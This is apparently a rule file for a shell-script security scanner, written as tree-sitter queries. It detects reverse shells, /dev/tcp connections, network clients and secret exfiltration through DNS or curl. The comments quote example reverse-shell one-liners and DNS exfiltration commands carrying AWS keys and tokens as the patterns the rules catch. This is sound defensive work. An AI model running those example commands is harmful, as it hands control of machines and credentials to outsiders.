; The network: bash's /dev/tcp, shells wired to a socket, network clients.

; /dev/tcp/HOST/PORT, /dev/udp/... in a word or a quoted string (a comment is
; neither); a redirect's destination is below
([(word) (raw_string) (string) (ansi_c_string) (concatenation)] @finding
 (#value-match? @finding "/dev/(tcp|udp)/")
 (#not-parent-type? @finding "concatenation" "file_redirect")
 (#set! id "sh-dev-tcp")
 (#set! severity "high")
 (#set! message "opens a network connection through bash's /dev/tcp or /dev/udp, a common way to build a reverse shell"))

; "$dir/..." whose whole does not fold: the constant piece
([(concatenation [(word) (raw_string) (string) (ansi_c_string)] @finding)
  (string (string_content) @finding)] @whole
 (#value-match? @finding "/dev/(tcp|udp)/")
 (#not-value-match? @whole "/dev/(tcp|udp)/")
 (#not-parent-type? @whole "file_redirect")
 (#set! id "sh-dev-tcp")
 (#set! severity "high")
 (#set! message "opens a network connection through bash's /dev/tcp or /dev/udp, a common way to build a reverse shell"))

; A redirect to /dev/tcp: a connection, unless it only tests that the port
; is open: `: </dev/tcp/h/p`, `true >/dev/tcp/h/p`, a bare redirect (no
; command, nothing read or written), `(exec 3<>/dev/tcp/h/p)` alone in a
; subshell (the descriptor closes with it), as wait-for-port loops do
((_ (redirected_statement (file_redirect destination: (_) @finding)) @st) @parent
 (#value-match? @finding "/dev/(tcp|udp)/")
 (#not-match? @st "^((:|true)\\s*)?[0-9]*[<>]")
 (#not-match? @parent "^\\(\\s*exec\\s+[0-9]*[<>]+&?\\s*\\S+\\s*\\)$")
 (#set! id "sh-dev-tcp")
 (#set! severity "high")
 (#set! message "opens a network connection through bash's /dev/tcp or /dev/udp, a common way to build a reverse shell"))

((_ (redirected_statement (file_redirect destination: [(concatenation (_) @finding) (string (string_content) @finding)] @whole)) @st) @parent
 (#value-match? @finding "/dev/(tcp|udp)/")
 (#not-value-match? @whole "/dev/(tcp|udp)/")
 (#not-match? @st "^((:|true)\\s*)?[0-9]*[<>]")
 (#not-match? @parent "^\\(\\s*exec\\s+[0-9]*[<>]+&?\\s*\\S+\\s*\\)$")
 (#set! id "sh-dev-tcp")
 (#set! severity "high")
 (#set! message "opens a network connection through bash's /dev/tcp or /dev/udp, a common way to build a reverse shell"))

; ---- shells wired to the network ----

; nc -e /bin/sh h 4444, ncat --sh-exec sh -l 4444, socat tcp:h:4444 exec:/bin/sh
((command argument: (_) @opt) @n @finding
 (#resolves-to? @n "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|sbd|socat")
 (#value-match? @opt "^-[a-zA-Z0-9]*[ec]$|^--(sh-|lua-)?exec(=|$)|(?i)(^|[!,])(exec|system):")
 (#set! id "sh-network-shell")
 (#set! severity "high")
 (#set! message "connects a shell to the network (a reverse or bind shell): whoever is at the other end controls the machine"))

; nc h 4444 | sh, telnet h 23 | /bin/bash | telnet h 24
((pipeline (_) @src [(command) (redirected_statement) (subshell (command) @sink) (compound_statement (command) @sink)] @sink) @finding
 (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript|g?make) -")
 (#contains-call? @src "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
 (#set! id "sh-network-shell")
 (#set! severity "high")
 (#set! message "runs what comes from the network in a shell (a reverse shell): whoever is at the other end controls the machine"))

; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f (a redirect in the middle of a
; pipeline nests the stages before it)
((pipeline
   [(command) (redirected_statement) (redirected_statement body: (pipeline (command) @sink))] @sink
   (_) @dst) @finding
 (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript|g?make) -")
 (#contains-call? @dst "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
 (#set! id "sh-network-shell")
 (#set! severity "high")
 (#set! message "sends a shell's output to the network (a reverse shell): whoever is at the other end controls the machine"))

; bash -i >& /dev/tcp/h/4444 0>&1, sh < /dev/tcp/h/4444
((redirected_statement
   body: (command) @sh
   redirect: (file_redirect destination: (_) @dst)) @finding
 (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript")
 (#value-match? @dst "^/dev/(tcp|udp)/")
 (#set! id "sh-network-shell")
 (#set! severity "high")
 (#set! message "connects a shell to the network through /dev/tcp (a reverse shell): whoever is at the other end controls the machine"))

; ---- plain network use ----

; curl https://x, wget u, ssh host, nc host 80, dig NAME (a name looked up is
; data sent out), mail ADDRESS, redis-cli -h H, mosquitto_pub -h H, kcat -b H (a
; message to a server): an argument that is not an option
; (curl --version is not network use); sendmail -t, msmtp -t (a mail sent to
; the addresses its own To: lines name); gh issue create -F -, glab api,
; hub, tea (GitHub's, GitLab's and Gitea's clients: what they are given is
; posted to the forge)
((command argument: (_) @arg) @n @finding
 (#resolves-to? @n "gh|glab|hub|tea|curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|lynx|w3m|e?links|lwp-download|HEAD|POST|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ssh|sftp|ftp|lftp|ncftp|tftp|mosh|sshpass|nslookup|dig|host|drill|kdig|delv|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|mosquitto_sub|kcat|kafkacat|websocat|wscat|curlie|grpcurl")
 (#match? @arg "^([^-]|-[a-zA-Z]*t$|--read-recipients$)")
 (#set! id "sh-network")
 (#set! severity "warn")
 (#set! message "opens a network connection"))


; xdg-open "https://h/?d=$x", gio open URL, sensible-browser URL: the
; desktop's browser fetches the address, and whatever the program put in it
((command argument: (_) @arg) @n @finding
 (#resolves-to? @n "xdg-open|gio|gvfs-open|kde-open[0-9]*|exo-open|sensible-browser|x-www-browser|www-browser|firefox(-esr)?|chromium(-browser)?|google-chrome(-stable)?|brave-browser")
 (#match? @arg "^[\"']?(https?|ftp)://")
 (#set! id "sh-network")
 (#set! severity "warn")
 (#set! message "opens an address in the desktop's browser, which fetches it"))

; git ls-remote "https://h/$d/r.git", git clone URL, git fetch, pull or
; push URL, git archive --remote=URL: git connects to the address and
; sends whatever the program put in it (an environment dump in the path)
((command argument: (_) @arg) @n @finding
 (#resolves-to? @n "git")
 (#match? @n "^(\\S*/)?git\\s+(.*\\s)?(clone|ls-remote|fetch|pull|push|archive|submodule\\s+add)\\s")
 (#match? @arg "^[\"']?(--remote=)?(https?|git|ssh|ftps?)://")
 (#set! id "sh-network")
 (#set! severity "warn")
 (#set! message "gives git an address to fetch from or send to over the network"))

; dig "$AWS_SECRET_ACCESS_KEY.x.example", nslookup "$(printenv TOKEN |
; base64).x.example", getent ahosts "$k.x.example", traceroute "$k.x.example"
; (each resolves the name first): a secret of the environment sent out as a name to look
; up (DNS carries it even where nothing else may connect)
((command argument: (_) @arg) @n @finding
 (#resolves-to? @n "nslookup|dig|host|drill|kdig|delv|ping|ping6|getent|resolvectl|systemd-resolve|traceroute6?|tracepath6?|mtr|fping|avahi-resolve(-host-name)?")
 (#match? @arg "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv|(^|[^\\w-])env([^\\w-]|$)")
 (#set! id "sh-secret-exfil")
 (#set! severity "high")
 (#set! message "puts a secret of the environment into a host name it looks up: sent out through DNS"))

; printf %s "$AWS_SECRET_ACCESS_KEY" | base64 | xargs -I{} dig {}.x.example,
; echo "$OPENAI_API_KEY" | nc h 9: a secret piped into a lookup or a raw
; connection (curl and wget are left out: an API token in a request body
; is how OAuth and many APIs take it)
((pipeline) @finding
 (#match? @finding "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)")
 (#contains-call? @finding "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|nslookup|dig|host|drill|kdig|delv|getent|resolvectl|systemd-resolve")
 (#set! id "sh-secret-exfil")
 (#set! severity "high")
 (#set! message "pipes a secret of the environment into a name lookup or a raw network connection"))

; k=$AWS_SECRET_ACCESS_KEY; nslookup "$k.x.example", tok() { printenv
; TOKEN; }; dig "$(tok).x.example", tok | nc h 9: the same secret kept in
; a variable or printed by the program's own function
((command argument: (_) @arg) @n @finding
 (#resolves-to? @n "nslookup|dig|host|drill|kdig|delv|ping|ping6|getent|resolvectl|systemd-resolve|traceroute6?|tracepath6?|mtr|fping|avahi-resolve(-host-name)?")
 (#bound-text-match? @arg "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv")
 (#set! id "sh-secret-exfil")
 (#set! severity "high")
 (#set! message "puts a secret of the environment into a host name it looks up: sent out through DNS"))

((pipeline (_) @src (_) @sink) @finding
 (#contains-call? @sink "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|nslookup|dig|host|drill|kdig|delv|getent|resolvectl|systemd-resolve")
 (#bound-text-match? @src "\\$\\{?[A-Za-z0-9_]*(?i:secret|token|passw(or)?d|api_?key|access_?key|private_?key|credential)|printenv")
 (#set! id "sh-secret-exfil")
 (#set! severity "high")
 (#set! message "pipes a secret of the environment into a name lookup or a raw network connection"))

;   curl -d "k=$AWS_SECRET_ACCESS_KEY" u, curl --variable
;   %AWS_SECRET_ACCESS_KEY --expand-data '{{AWS_SECRET_ACCESS_KEY}}' u (curl
;   reads the variable itself), k=$AWS_SECRET_ACCESS_KEY; wget --post-data
;   "$k" u, printenv AWS_SECRET_ACCESS_KEY | curl --data-binary @- u: the AWS
;   secret key in what a network client sends. AWS never receives that key
;   (a request is signed with it), so whoever receives it is someone else
;   (an API token in a body or a header, an OAuth client secret, stays warn)
((command) @n @finding
 (#match? @n "(?i:aws_secret_access_key)")
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|logger")
 (#set! id "sh-secret-exfil")
 (#set! severity "high")
 (#set! message "sends the AWS secret access key over the network: AWS never receives that key (requests are signed with it), so this gives it away"))

((command) @n @finding
 (#bound-text-match? @n "(?i:aws_secret_access_key)")
 (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|logger")
 (#set! id "sh-secret-exfil")
 (#set! severity "high")
 (#set! message "sends the AWS secret access key over the network: AWS never receives that key (requests are signed with it), so this gives it away"))

((pipeline (_) @src (_) @sink) @finding
 (#bound-text-match? @src "(?i:aws_secret_access_key)")
 (#contains-call? @sink "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|logger")
 (#set! id "sh-secret-exfil")
 (#set! severity "high")
 (#set! message "pipes the AWS secret access key into a network client: AWS never receives that key (requests are signed with it), so this gives it away"))

((pipeline (_) @src (_) @sink) @finding
 (#match? @src "(?i:aws_secret_access_key)")
 (#contains-call? @sink "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks|redis-cli|mosquitto_pub|logger")
 (#set! id "sh-secret-exfil")
 (#set! severity "high")
 (#set! message "pipes the AWS secret access key into a network client: AWS never receives that key (requests are signed with it), so this gives it away"))

; openssl s_client -connect h:443: a TLS connection (what is piped into it
; is sent)
((command argument: (_) @arg) @n @finding
 (#resolves-to? @n "openssl")
 (#value-match? @arg "^(s_client|s_time)$")
 (#set! id "sh-network")
 (#set! severity "warn")
 (#set! message "opens a network connection (openssl s_client)"))

; scp f host:, rsync -a d/ user@host:d/ (a local copy is not network use)
((command argument: (_) @arg) @n @finding
 (#resolves-to? @n "scp|rsync")
 (#value-match? @arg "^([^/]*@)?[A-Za-z0-9._-]+:|^[a-z]+://")
 (#set! id "sh-network")
 (#set! severity "warn")
 (#set! message "copies files over the network"))

; bash -i <&"${N[0]}" >&"${N[1]}" (N a coproc running nc), bash <&"$fd": a
; shell that runs what it reads from a file descriptor opened elsewhere;
; exec 3<<< "$s"; bash <&3, exec 7<<'E' ... E; python3 - <&7: the same from
; a descriptor the program numbered (a here-string, a here-document, a
; command's output), code out of sight (0, 1 and 2 are the usual streams)
((redirected_statement
   body: (command) @sh
   redirect: (file_redirect destination: (_) @fd) @r) @finding
 (#resolves-to? @sh "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*) -")
 (#match? @r "^[0-9]*<&")
 (#not-value-match? @fd "^([0-2]|-)$")
 (#set! id "sh-network-shell")
 (#set! severity "high")
 (#set! message "runs in a shell what it reads from a file descriptor opened elsewhere (a coproc, exec {fd}<>, exec 3<<< ...), the way a reverse shell is wired"))

; logger -n HOST msg, logger --server=HOST --tcp -f file: the message sent
; to a remote syslog server (logger -t tag msg writes the local journal)
((command) @n @finding
 (#resolves-to? @n "logger")
 (#match? @n "\\s(-[a-zA-Z]*n|--server)(\\s|=)")
 (#set! id "sh-network")
 (#set! severity "warn")
 (#set! message "sends a message to a remote syslog server (logger -n)"))

; ping -p PATTERN h: data sent out in the padding of ICMP packets
((command) @n @finding
 (#resolves-to? @n "ping|ping6")
 (#match? @n "\\s-[a-zA-Z0-9]*p")
 (#set! id "sh-network")
 (#set! severity "warn")
 (#set! message "sends chosen bytes in ping packets (ping -p)"))
